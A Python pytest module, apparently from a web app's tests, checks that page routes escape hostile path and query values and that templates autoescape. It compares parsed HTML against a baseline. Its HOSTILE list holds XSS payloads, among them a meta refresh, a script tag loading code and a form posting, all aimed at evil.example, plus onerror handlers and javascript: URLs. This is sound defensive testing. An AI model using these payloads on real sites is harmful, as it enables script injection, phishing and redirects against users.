"""Issue 17 #2: every page route, asked with hostile path and query values, answers HTML in which no
element, attribute or URL was injected. Each page is parsed as a browser parses it (html5lib) and
compared with the same page asked with a harmless value: the same elements, no event handler,
no ``http-equiv``, and no URL that the page did not have."""

from __future__ import annotations

from collections import Counter
from collections.abc import AsyncIterator
from urllib.parse import quote

import html5lib
import pytest
import pytest_asyncio

from tests.helpers import ApiClient, make_settings, start_app

HOSTILE = [
    '"><meta http-equiv=refresh content="0;url=https:evil.example">',
    "'><script src=https://evil.example/x.js></script>",
    '" onmouseover="alert(1)" x="',
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "</article></main><form action=https://evil.example><input name=k></form>",
    "{{ 7 * 7 }}{% raw %}",
    "%3Csvg%20onload%3Dalert(1)%3E",
]
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "content", "data", "poster", "srcset")


IN_MODULE_LOOP = pytest.mark.asyncio(loop_scope="module")  # the loop ``pages`` runs in


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def pages() -> AsyncIterator[ApiClient]:
    """One app for the module: its tests only read pages."""
    async for client in start_app(make_settings(graphiql=True)):
        yield client


def shape(html: str) -> tuple[Counter[str], set[str], set[str]]:
    """(elements by tag, attribute names, URL-valued attribute values) of a parsed page."""
    tree = html5lib.parse(html, namespaceHTMLElements=False)
    tags: Counter[str] = Counter()
    attributes: set[str] = set()
    urls: set[str] = set()
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue  # comments
        tags[element.tag] += 1
        for name, value in element.attrib.items():
            attributes.add(name.lower())
            if name.lower() in URL_ATTRIBUTES:
                urls.add(value)
    return tags, attributes, urls


def assert_nothing_injected(page: str, baseline: str, what: object) -> None:
    if not page:
        return  # not a page (see get)
    tags, attributes, urls = shape(page)
    base_tags, base_attributes, base_urls = shape(baseline)
    assert tags == base_tags, (what, tags - base_tags, base_tags - tags)
    assert attributes <= base_attributes, (what, attributes - base_attributes)
    assert not {a for a in attributes if a.startswith("on") or a == "http-equiv"}, what
    assert urls <= base_urls, (what, urls - base_urls)
    assert "evil.example" not in " ".join(urls) and "javascript:" not in " ".join(urls), what


async def get(pages: ApiClient, url: str, **headers: str) -> str:
    """The page's HTML; a value that leaves the page's route (``%2F`` is a path separator) gets the
    JSON 404 envelope instead, which is parsed as JSON and checked to be one."""
    response = await pages.http.get(url, headers=headers)
    assert response.status_code < 500, (url, response.status_code)
    if response.headers["content-type"].startswith("application/json"):
        assert response.status_code == 404 and response.json()["error"]["code"] == "resource_missing", url
        return ""
    assert response.headers["content-type"].startswith("text/html"), (url, response.headers["content-type"])
    return response.text


@IN_MODULE_LOOP
async def test_report_names_from_the_path_are_escaped(pages: ApiClient) -> None:
    baseline = await get(pages, "/docs/nothing-here")
    for value in HOSTILE:
        page = await get(pages, "/docs/" + quote(value, safe=""))
        assert_nothing_injected(page, baseline, value)
    # the issue's own request, verbatim
    attack = "/docs/%22%3E%3Cmeta%20http-equiv=refresh%20content=%220;url=https:evil.example%22%3E"
    page = await get(pages, attack)
    assert_nothing_injected(page, baseline, attack)
    assert "<meta http-equiv" not in page


@pytest.mark.parametrize("path", ["/", "/dashboard", "/docs", "/docs/methodology", "/docs/validation", "/graphql"])
@IN_MODULE_LOOP
async def test_every_page_with_hostile_query_values(pages: ApiClient, path: str) -> None:
    accept = {"accept": "text/html"}
    baseline = await get(pages, path, **accept)
    for value in HOSTILE:
        for query in (f"x={quote(value, safe='')}", f"{quote(value, safe='')}=1", quote(value, safe="")):
            url = f"{path}?{query}" if path != "/graphql" else f"{path}?{query}&"
            page = await get(pages, url, **accept)
            assert_nothing_injected(page, baseline, (path, query))


def test_templates_are_escaped_by_default() -> None:
    from gql.pages import templates

    env = templates().env
    assert env.autoescape is True  # every template, whatever its file name
    rendered = env.from_string("<p title='{{ v }}'>{{ v }}</p>").render(v=HOSTILE[0])
    assert "<meta" not in rendered and "&#34;&gt;&lt;meta" in rendered
